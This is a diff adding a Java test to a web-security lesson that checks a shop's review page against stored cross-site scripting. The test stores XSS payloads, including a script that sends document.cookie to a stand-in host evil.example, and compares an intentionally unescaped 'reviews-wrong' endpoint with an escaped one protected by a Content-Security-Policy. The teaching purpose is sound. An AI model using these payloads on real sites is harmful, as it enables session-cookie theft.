@@ -87,7 +87,7 @@ class WebSecurityTest {
 
     @BeforeEach
     void fill() {
-        db.sql("truncate customer, account, product, orders restart identity cascade").update();
+        db.sql("truncate customer, account, product, orders, review restart identity cascade").update();
         db.sql("insert into customer (name, email) values ('Ada', 'ada@shop.example'), ('Bob', 'bob@shop.example')").update();
         db.sql("insert into account values ('ada@shop.example', ?)")
                 .param("{bcrypt}" + new BCryptPasswordEncoder(10).encode(PASSWORD)).update();
@@ -105,6 +105,48 @@ class WebSecurityTest {
     String cookie(HttpResponse<String> response, String name) {
         return response.headers().allValues("set-cookie").stream().filter(c -> c.startsWith(name + "="))
                 .map(c -> c.substring(0, c.indexOf(';'))).findFirst().orElseThrow();
+    }
+
+    /** What stays of a stored review when a page is made of it; also written to target/output for the lesson. */
+    @Test
+    void aStoredScriptIsTextOnThePage() throws Exception {
+        // #region xss
+        var attack = new ReviewPage.Review("Eve<img src=x onerror=alert(1)>",
+                "javascript:alert(document.cookie)",
+                "Nice! <script>fetch('https://evil.example/?'"
+                        + " + document.cookie)</script>");
+        db.sql("insert into review (product_id, author, homepage, body)"
+                        + " values (1, :author, :homepage, :text)")
+                .paramSource(attack).update();           // stored as it is
+
+        var wrong = asAda("/products/1/reviews-wrong");
+        assertThat(wrong.body()).contains("<script>fetch", "onerror=alert",
+                "href=\"javascript:");
+
+        var right = asAda("/products/1/reviews");
+        assertThat(right.body()).contains("&lt;script&gt;fetch", "href=\"#\"")
+                .doesNotContain("<script>", "<img", "javascript:");
+        assertThat(right.headers().firstValue("Content-Security-Policy"))
+                .hasValueSatisfying(policy -> assertThat(policy)
+                        .contains("script-src 'self'"));   // the second line
+        // #endregion xss
+        Files.createDirectories(Path.of("target/output"));
+        Files.writeString(Path.of("target/output/xss.txt"),
+                "wrong\n" + item(wrong) + "\nright\n" + item(right) + "\n");
+    }
+
+    String item(HttpResponse<String> page) {
+        return page.body().replaceAll("(?s).*<ul>(.*)</ul>", "$1")
+                .replace("</a>: ", "</a>:\n    ").replace("\">", "\">\n    ").replaceAll("^", "  ");
+    }
+
+    HttpResponse<String> asAda(String path) throws Exception {
+        var page = send("GET", "/login", null);
+        String token = cookie(page, "XSRF-TOKEN").substring("XSRF-TOKEN=".length());
+        var login = send("POST", "/login", "username=ada%40shop.example&password=correct+horse+battery",
+                "Content-Type", "application/x-www-form-urlencoded", "X-XSRF-TOKEN", token,
+                "Cookie", "XSRF-TOKEN=" + token);
+        return send("GET", path, null, "Cookie", cookie(login, "JSESSIONID"));
     }
 
     // #region injection
